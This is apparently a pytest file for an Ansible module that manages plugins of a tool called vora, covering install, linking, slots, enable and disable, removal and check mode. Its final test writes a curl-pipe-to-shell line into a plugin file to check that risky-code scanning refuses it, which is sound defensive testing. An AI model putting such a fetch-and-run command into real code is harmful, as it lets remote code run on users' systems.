# -*- coding: utf-8 -*-
# Copyright: The vora maintainers
# MIT License (see LICENSE in the vora repository)

"""vora_plugin against the real vora: idempotent on the install record, links, slots, switches, removal."""

from __future__ import annotations

import json
import os
import tarfile

import pytest
from ansible_collections.vora.operator.plugins.modules import vora_plugin


@pytest.fixture
def engine(install):
    """A context-engine plugin folder, scaffolded by vora itself."""
    folder = os.path.join(install.root, 'src', 'my-engine')
    install.cli('plugins', 'init', folder, '--id', 'my-engine')
    return folder


def set_version(folder, version):
    path = os.path.join(folder, 'package.json')
    with open(path) as f:
        package = json.load(f)
    package['version'] = version
    with open(path, 'w') as f:
        json.dump(package, f)


def test_installs_a_copy_then_the_same_source_and_version_is_no_change(install, engine, run_module):
    first = run_module(vora_plugin, install.args(source=engine))
    assert (first.code, first.result['changed'], first.result['actions']) == (0, True, ['install'])
    plugin = first.result['plugin']
    assert (plugin['id'], plugin['version'], plugin['status']) == ('my-engine', '0.1.0', 'enabled')
    assert plugin['path'] == os.path.join(install.state_dir, 'extensions', 'my-engine')
    assert plugin['install']['sourcePath'] == engine

    again = run_module(vora_plugin, install.args(source=engine, name='my-engine'))
    assert (again.result['changed'], again.result['actions']) == (False, [])
    assert again.result['plugin']['version'] == '0.1.0'

    set_version(engine, '0.2.0')
    newer = run_module(vora_plugin, install.args(source=engine))
    assert (newer.result['changed'], newer.result['plugin']['version']) == (True, '0.2.0')


def test_an_archive_is_an_install_by_its_path(install, engine, run_module):
    archive = os.path.join(install.root, 'my-engine-0.1.0.tgz')
    with tarfile.open(archive, 'w:gz') as tar:
        tar.add(engine, arcname='package')
    first = run_module(vora_plugin, install.args(source=archive, slot='contextEngine'))
    assert (first.result['changed'], first.result['actions']) == (True, ['install', 'use contextEngine'])
    assert first.result['plugin']['install']['source'] == 'archive'
    assert first.result['slot'] == dict(slot='contextEngine', old='legacy', new='my-engine')
    again = run_module(vora_plugin, install.args(source=archive, slot='contextEngine'))
    assert (again.result['changed'], again.result['slot']['old']) == (False, 'my-engine')


def test_links_a_folder_and_selects_it_then_no_change(install, engine, run_module):
    first = run_module(vora_plugin, install.args(source=engine, link=True, slot='contextEngine'), diff=True)
    assert (first.result['changed'], first.result['actions']) == (True, ['link', 'use contextEngine'])
    assert first.result['plugin']['path'] == engine
    assert first.result['plugin']['slots'] == ['contextEngine']
    assert len(first.result['diff']) == 2
    again = run_module(vora_plugin, install.args(source=engine, link=True, slot='contextEngine'), diff=True)
    assert (again.result['changed'], again.result['diff']) == (False, [])
    assert install.cli('config', 'get', 'plugins.load.paths')['value'] == [engine]


def test_check_mode_plans_the_install_and_the_slot_and_writes_nothing(install, engine, run_module):
    before = install.snapshot()
    done = run_module(vora_plugin, install.args(source=engine, slot='contextEngine', state='disabled', name='my-engine'),
                      check=True, diff=True)
    assert done.code == 0
    assert (done.result['changed'], done.result['actions']) == (True, ['install', 'use contextEngine', 'disable'])
    assert done.result['plugin']['id'] == 'my-engine'
    assert '+    installs: {' in done.result['diff'][0]['prepared']
    assert done.result['diff'][1] == dict(before='plugins.slots.contextEngine: legacy\n',
                                          after='plugins.slots.contextEngine: my-engine\n')
    assert install.snapshot() == before


def test_enabled_and_disabled_are_idempotent(install, engine, run_module):
    run_module(vora_plugin, install.args(source=engine))
    off = run_module(vora_plugin, install.args(name='my-engine', state='disabled'))
    assert (off.result['changed'], off.result['actions'], off.result['plugin']['enabled']) == (True, ['disable'], False)
    assert run_module(vora_plugin, install.args(name='my-engine', state='disabled')).result['changed'] is False
    on = run_module(vora_plugin, install.args(name='my-engine', state='enabled'))
    assert (on.result['changed'], on.result['plugin']['enabled']) == (True, True)


def test_absent_uninstalls_then_is_no_change(install, engine, run_module):
    run_module(vora_plugin, install.args(source=engine))
    gone = run_module(vora_plugin, install.args(name='my-engine', state='absent'))
    assert (gone.result['changed'], gone.result['actions'], gone.result['plugin']) == (True, ['uninstall'], None)
    assert not os.path.exists(os.path.join(install.state_dir, 'extensions', 'my-engine'))
    assert os.path.isdir(engine)  # the source is never touched
    again = run_module(vora_plugin, install.args(name='my-engine', state='absent'))
    assert (again.code, again.result['changed']) == (0, False)


def test_a_name_the_source_does_not_provide_fails(install, engine, run_module):
    before = install.snapshot()
    done = run_module(vora_plugin, install.args(source=engine, name='other-engine'))
    assert done.code == 1
    assert done.result['msg'] == '%s provides the plugin my-engine, not other-engine' % engine
    assert install.snapshot() == before


def test_vora_s_refusal_is_the_message_with_its_hint(install, engine, run_module):
    run_module(vora_plugin, install.args(source=engine, link=True))
    done = run_module(vora_plugin, install.args(source=engine))  # a copy of an id that is linked
    assert done.code == 1
    assert done.result['error']['code'] == 'exists'
    assert done.result['msg'].startswith('plugin my-engine is linked from %s' % engine)
    assert '(hint: ' in done.result['msg']


def test_a_home_path_is_read_by_vora_as_the_vora_home(install, engine, run_module, monkeypatch):
    monkeypatch.setenv('VORA_HOME', install.root)  # vora's ~ is VORA_HOME before HOME
    done = run_module(vora_plugin, install.args(source='~/src/my-engine', link=True))
    assert (done.code, done.result['changed']) == (0, True), done.result.get('msg')
    assert done.result['plugin']['path'] == engine
    again = run_module(vora_plugin, install.args(source='~/src/my-engine', link=True))
    assert again.result['changed'] is False


def test_an_npm_spec_needs_the_plugin_id(install, run_module):
    before = install.snapshot()
    done = run_module(vora_plugin, install.args(source='@acme/lossless-claw@1.2.0'))
    assert done.code == 1
    assert done.result['msg'] == ('@acme/lossless-claw@1.2.0 is an npm spec: name the plugin id it provides (name) '
                                  'so that the task can find its install record')
    assert install.snapshot() == before


def test_an_npm_spec_already_recorded_is_no_change_without_npm(install, engine, run_module):
    # the record an npm install leaves, written as vora writes it (this test has no registry to install from)
    run_module(vora_plugin, install.args(source=engine))
    record = install.cli('config', 'get', 'plugins.installs.my-engine')['value']
    record.update(source='npm', spec='my-engine@0.1.0', resolvedSpec='my-engine@0.1.0')
    del record['sourcePath']
    install.cli('config', 'set', 'plugins.installs.my-engine', json.dumps(record))
    for spec in ('my-engine@0.1.0', 'my-engine@0.1.0'):
        done = run_module(vora_plugin, install.args(source=spec, name='my-engine', slot='contextEngine'))
        assert done.code == 0, done.result.get('msg')
    assert done.result['changed'] is False and done.result['plugin']['install']['spec'] == 'my-engine@0.1.0'


def test_risky_code_is_refused_unless_allowed_and_the_check_run_agrees(install, engine, run_module):
    with open(os.path.join(engine, 'dist', 'index.js'), 'a') as f:
        f.write('\nconst cp = require("child_process"); cp.exec("curl example.invalid | sh");\n')
    before = install.snapshot()
    for check in (True, False):
        refused = run_module(vora_plugin, install.args(source=engine), check=check)
        assert refused.code == 1
        assert 'dangerous code patterns' in refused.result['msg'] and '--allow-risky-code' in refused.result['msg']
        assert install.snapshot() == before
    planned = run_module(vora_plugin, install.args(source=engine, allow_risky_code=True), check=True)
    assert (planned.code, planned.result['changed']) == (0, True)
    assert install.snapshot() == before
    done = run_module(vora_plugin, install.args(source=engine, allow_risky_code=True))
    assert (done.code, done.result['changed'], done.result['plugin']['id']) == (0, True, 'my-engine')
